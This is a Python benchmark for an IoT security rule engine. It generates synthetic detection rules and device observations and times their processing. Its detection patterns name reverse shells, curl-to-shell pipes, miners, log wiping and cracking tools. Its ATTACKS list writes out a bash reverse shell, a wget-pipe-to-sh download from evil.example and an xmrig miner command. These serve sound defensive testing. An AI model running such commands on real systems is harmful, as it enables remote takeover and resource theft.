"""Rule engine throughput: observations/s through 40 catalogue-like rules plus 100 custom rules.

Run: python bench/rules_engine.py [--observations N] [--catalogue] [--unique]

The synthetic rule file has 40 rules shaped like the built-in catalogue (command-line regular
expressions, executable lists, CIDR and port tests, brute-force thresholds and sequences, hub
operations) and 100 custom per-group rules of the ASC kinds (allow lists of processes, users and
CIDRs, deny lists, time-window counts with a max). 200,000 synthetic observations (processes,
connections, logins, listening ports, hub operations over 1,000 devices in 10 groups) are built
first, then pushed through ``RuleEngine.observe`` on one core. With ``--catalogue`` the real
built-in catalogue is measured too, alone and with the 100 custom rules. A fleet repeats its
command lines, and the engine remembers its answers for values it has seen; ``--unique`` gives
every command line a unique argument, so that nothing is answered from memory (the worst case).
"""

from __future__ import annotations

import argparse
import os
import random
import time
from datetime import UTC, datetime, timedelta

from iotsec.analytics import DeviceContext, Observation
from iotsec.analytics.rules import RuleEngine, RuleSet, load_catalogue, load_rules_text

SHELLS = "(?:ba|da|k|z|a)?sh"
CATALOGUE_LIKE = [
    (
        "ProcessCreate",
        "field: CommandLine",
        "regex: '(?:^|[\\s;&|])" + SHELLS + "\\s+-i\\s*[<>]&?\\s*/dev/(?:tcp|udp)/'",
    ),
    ("ProcessCreate", "field: CommandLine", "regex: '\\bnc(?:at)?\\b.*\\s-[ec]\\s'"),
    ("ProcessCreate", "field: CommandLine", "regex: '(?:curl|wget)\\s[^|;]*\\|\\s*(?:ba)?sh\\b'"),
    ("ProcessCreate", "field: CommandLine", "regex: 'python[\\d.]*\\s.*socket.*(?:dup2|pty)'"),
    ("ProcessCreate", "field: CommandLine", "regex: 'perl\\s.*socket.*exec'"),
    ("ProcessCreate", "field: CommandLine", "regex: 'socat\\s.*exec:'"),
    ("ProcessCreate", "field: CommandLine", "contains: [xmrig, minerd, cpuminer, stratum+tcp]"),
    (
        "ProcessCreate",
        "field: CommandLine",
        "regex: '(?:iptables\\s+-F|ufw\\s+disable|systemctl\\s+stop\\s+firewalld)'",
    ),
    (
        "ProcessCreate",
        "field: CommandLine",
        "regex: '(?:systemctl|service)\\s+(?:stop|disable)\\s+auditd'",
    ),
    ("ProcessCreate", "field: CommandLine", "regex: 'ssh\\s.*-[LRD]\\s*\\d+'"),
    ("ProcessCreate", "field: CommandLine", "regex: 'useradd\\s.*-o\\s.*-u\\s*0'"),
    ("ProcessCreate", "field: CommandLine", "regex: '^nohup\\s'"),
    (
        "ProcessCreate",
        "field: CommandLine",
        "regex: '(?:history\\s+-c|>\\s*~?/?\\S*\\.bash_history)'",
    ),
    ("ProcessCreate", "field: CommandLine", "regex: 'rm\\s+(?:-\\w+\\s+)*/var/log/'"),
    ("ProcessCreate", "field: Executable", "endswith: [/nmap, /masscan, /hydra, /sqlmap, /nikto]"),
    ("ProcessCreate", "field: Executable", "endswith: [/mimipenguin, /lazagne, /john, /hashcat]"),
    ("ProcessCreate", "field: CommandLine", "regex: '(?:gcc|cc|clang)\\s.*-o\\s+/tmp/'"),
    ("ProcessCreate", "field: CommandLine", "regex: 'docker\\s+run\\s.*--privileged'"),
    ("ProcessCreate", "field: Executable", "regex: '\\s$'"),
    (
        "ProcessCreate",
        "field: CommandLine",
        "regex: '^(?:python|perl|ruby)\\S*\\s+\\S+\\.(?:sh|jpg|png|txt)\\b'",
    ),
    ("ProcessCreate", "field: CommandLine", "regex: 'base64\\s+-d.*\\|\\s*(?:ba)?sh'"),
    ("ProcessCreate", "field: CommandLine", "regex: '(?:chmod\\s+\\+x|chmod\\s+7\\d\\d)\\s+/tmp/'"),
    ("ProcessCreate", "field: Executable", "startswith: [/tmp/, /dev/shm/, /var/tmp/]"),
    ("ProcessCreate", "field: CommandLine", "regex: '(?:usermod|gpasswd)\\s.*(?:sudo|wheel|root)'"),
    ("ProcessCreate", "field: CommandLine", "regex: '(?:userdel|groupdel)\\s'"),
    ("ProcessCreate", "field: CommandLine", "regex: 'crontab\\s+-r|echo\\s.*>>\\s*/etc/cron'"),
    ("ConnectionCreate", "field: RemotePort", "in: [3333, 4444, 5555, 7777, 14444, 45700]"),
    ("ConnectionCreate", "field: RemoteAddress", "cidr: [198.51.100.0/24, 203.0.113.0/24]"),
    ("ConnectionCreate", "field: LocalPort", "in: [2375, 2376]"),
    ("ListeningPorts", "field: LocalPort", "in: [23, 2323, 5900]"),
    ("Login", "field: UserName", "in: [root, admin]"),
    ("Login", "field: Operation", "equals: su"),
    ("authenticate", "field: Reason", "contains: expired"),
    ("authenticate", "field: Reason", "contains: signature"),
    ("authenticate", "field: Reason", "contains: thumbprint"),
    ("DeviceIdentityOperations", "field: Operation", "in: [certificate-add, certificate-delete]"),
]


def _rule(index: int, event: str, field: str, test: str) -> str:
    return (
        f"  - id: Bench_{index:03d}\n    name: bench {index}\n    severity: Medium\n"
        f"    tactic: Execution\n    technique: T1059\n"
        f"    description: '{{DeviceId}} matched rule {index}'\n"
        f"    match: {{event: {event}, {field}, {test}}}\n"
    )


def rule_text() -> str:
    """40 catalogue-like rules and 100 custom per-group rules, as one YAML file."""
    parts = ["rules:\n"]
    for index, (event, field, test) in enumerate(CATALOGUE_LIKE):
        parts.append(_rule(index, event, field, test))
    parts.append(
        "  - id: Bench_BruteFail\n    name: brute\n    severity: Low\n    description: d\n"
        "    match: {event: Login, field: Result, equals: Fail}\n"
        "    threshold: {count: 10, window: 5m, by: [DeviceId, RemoteAddress]}\n"
        "  - id: Bench_BruteSuccess\n    name: brute ok\n    severity: High\n    description: d\n"
        "    sequence:\n      within: 10m\n      by: [DeviceId, RemoteAddress]\n      steps:\n"
        "        - {match: {event: Login, field: Result, equals: Fail}, count: 5}\n"
        "        - {match: {event: Login, field: Result, equals: Success}}\n"
        "  - id: Bench_ManyConnections\n    name: conns\n    severity: Low\n    description: d\n"
        "    match: {event: ConnectionCreate}\n"
        "    threshold: {max: 500, window: 5m}\n"
        "  - id: Bench_Process_Burst\n    name: burst\n    severity: Low\n    description: d\n"
        "    match: {event: ProcessCreate}\n"
        "    threshold: {count: 1000, window: 1m}\n"
    )
    for index in range(100):
        group = f"group-{index % 10}"
        kind = index // 10 % 5
        rid = f"Custom_{index:03d}"
        head = f"  - id: {rid}\n    name: custom {index}\n    severity: Low\n    description: d\n"
        if kind == 0:  # ConnectionToIpNotAllowed
            nets = f"10.{index % 10}.0.0/16, 172.16.{index % 10}.0/24, 192.168.{index}.0/24"
            body = (
                "    match: {event: ConnectionCreate, field: Group, equals: " + group + ","
                " not: {field: RemoteAddress, cidr: [" + nets + "]}}\n"
            )
        elif kind == 1:  # ProcessNotAllowed
            allowed = ", ".join([*(f"/usr/bin/app{n}" for n in range(6)), *BENIGN_EXECUTABLES])
            body = (
                "    match: {event: ProcessCreate, field: Group, equals: " + group + ","
                " not: {field: Executable, in: [" + allowed + "]}}\n"
            )
        elif kind == 2:  # LocalUserNotAllowed
            body = (
                "    match: {event: Login, field: Group, equals: " + group + ","
                " not: {field: UserName, in: [pi, svc, ops, root]}}\n"
            )
        elif kind == 3:  # ActiveConnectionsNotInAllowedRange
            body = (
                "    match: {event: ConnectionCreate, field: Group, equals: " + group + "}\n"
                "    threshold: {max: 30, window: 5m}\n"
            )
        else:  # FailedLocalLoginsNotInAllowedRange
            body = (
                "    match: {event: Login, field: Group, equals: " + group + ","
                " all: [{field: Result, equals: Fail}]}\n"
                "    threshold: {max: 5, window: 5m}\n"
            )
        parts.append(head + body)
    return "".join(parts)


BENIGN = [
    "/usr/bin/python3 /opt/app/main.py --config /etc/app.yaml",
    "/bin/sh -c /usr/lib/update-notifier/apt-check",
    "/bin/sleep 60",
    "/usr/sbin/sshd -D",
    "/bin/ls -la /var/lib/app",
    "/usr/bin/curl -s https://updates.example.com/manifest.json -o /var/lib/app/manifest.json",
    "/bin/systemctl status app.service",
    "/usr/bin/app3 --serve",
]
BENIGN_EXECUTABLES = sorted({line.split()[0] for line in BENIGN})
ATTACKS = [
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "wget -q -O- http://evil.example/x.sh | sh",
    "/tmp/xmrig -o stratum+tcp://pool.example:3333",
    "nohup /tmp/.x/agent &",
]


def observations(count: int, seed: int = 7, *, unique: bool = False) -> list[Observation]:
    """A synthetic fleet: benign traffic that custom allow lists accept, 1 in 500 suspicious;
    ``unique``: every command line different."""
    rng = random.Random(seed)
    devices = [
        DeviceContext(f"dev-{n:04d}", group=f"group-{n % 10}", tags={"site": f"s{n % 7}"})
        for n in range(1000)
    ]
    start = datetime(2025, 1, 1, tzinfo=UTC)
    out: list[Observation] = []
    for n in range(count):
        device = rng.choice(devices)
        group = int(device.group.rsplit("-", 1)[1])
        odd = rng.random() < 0.002
        when = start + timedelta(milliseconds=n * 5)
        roll = rng.random()
        if roll < 0.35:
            cmd = rng.choice(ATTACKS) if odd else rng.choice(BENIGN)
            if unique:
                cmd += f" --run {n}"
            name = "ProcessCreate"
            fields: dict[str, object] = {
                "Executable": cmd.split()[0],
                "CommandLine": cmd,
                "ProcessId": rng.randint(100, 60000),
                "ParentProcessId": 1,
                "UserId": "0",
                "UserName": "root",
            }
        elif roll < 0.70:
            name = "ConnectionCreate"
            remote = (
                "198.51.100.7" if odd else f"10.{group}.{rng.randint(0, 9)}.{rng.randint(1, 254)}"
            )
            fields = {
                "RemoteAddress": remote,
                "RemotePort": "4444" if odd else str(rng.choice([443, 8883, 53, 80])),
                "Direction": "Out",
                "Protocol": "TCP",
                "ProcessId": 321,
                "Executable": "/usr/bin/app3",
                "LocalPort": str(rng.randint(30000, 60000)),
            }
        elif roll < 0.80:
            name = "Login"
            fields = {
                "ProcessId": 55,
                "Operation": "su" if odd else "sshd",
                "Executable": "/usr/sbin/sshd",
                "Result": "Fail" if rng.random() < 0.05 else "Success",
                "UserName": "guest" if odd else rng.choice(["pi", "svc", "ops"]),
                "RemoteAddress": f"192.0.2.{rng.randint(1, 20)}",
            }
        elif roll < 0.85:
            name = "ListeningPorts"
            port = "23" if odd else str(rng.choice([22, 80, 443]))
            fields = {"Protocol": "TCP", "LocalPort": port}
        elif roll < 0.95:
            name = "authenticate"
            fields = {
                "Category": "Connections",
                "Operation": "authenticate",
                "Result": "Failure" if odd else "Success",
                "Reason": "sas token expired" if odd else "",
                "Protocol": "mqtt",
                "SourceIp": "192.0.2.1",
            }
        else:
            name = "SystemInformation"
            fields = {"OSName": "Linux", "HostName": device.device_id}
        out.append(
            Observation(
                source="hub" if name == "authenticate" else "agent",
                name=name,
                time=when,
                device=device,
                fields=fields,
                event_id=f"ev-{n}",
            )
        )
    return out


def measure(label: str, ruleset: RuleSet, seen: list[Observation]) -> None:
    """Best of three passes, each with a fresh engine; rates by CPU time and by wall time.

    CPU time is the figure to compare: on a shared machine wall time also counts the time
    other processes held the core.
    """
    best_cpu = best_wall = 0.0
    found = 0
    for _ in range(3):
        engine = RuleEngine(ruleset)
        wall, cpu = time.perf_counter(), time.process_time()
        found = 0
        for obs in seen:
            found += len(engine.observe(obs))
        engine.tick(seen[-1].time + timedelta(hours=1))
        best_cpu = max(best_cpu, len(seen) / (time.process_time() - cpu))
        best_wall = max(best_wall, len(seen) / (time.perf_counter() - wall))
    print(
        f"{label:<36} {len(ruleset):>5} {best_cpu:>12,.0f} {1e6 / best_cpu:>7.1f} "
        f"{best_wall:>12,.0f} {found:>10,}"
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--observations", type=int, default=200_000)
    parser.add_argument("--catalogue", action="store_true", help="also measure the real catalogue")
    parser.add_argument("--unique", action="store_true", help="every command line unique")
    args = parser.parse_args()
    if hasattr(os, "sched_setaffinity"):
        os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})  # one core
    started = time.perf_counter()
    synthetic = load_rules_text(rule_text(), source="bench.yaml")
    load_ms = (time.perf_counter() - started) * 1000
    custom = RuleSet(tuple(r for r in synthetic if r.id.startswith("Custom_")))
    seen = observations(args.observations, unique=args.unique)
    print(f"loaded {len(synthetic)} rules in {load_ms:.0f} ms; {len(seen):,} observations")
    print(
        f"{'rules':<36} {'count':>5} {'obs/s (cpu)':>12} {'us/obs':>7} {'obs/s (wall)':>12} "
        f"{'detections':>10}"
    )
    measure("40 catalogue-like + 100 custom", synthetic, seen)
    if args.catalogue:
        catalogue = load_catalogue()
        measure("built-in catalogue", catalogue, seen)
        measure("built-in catalogue + 100 custom", catalogue.merge(custom), seen)


if __name__ == "__main__":
    main()
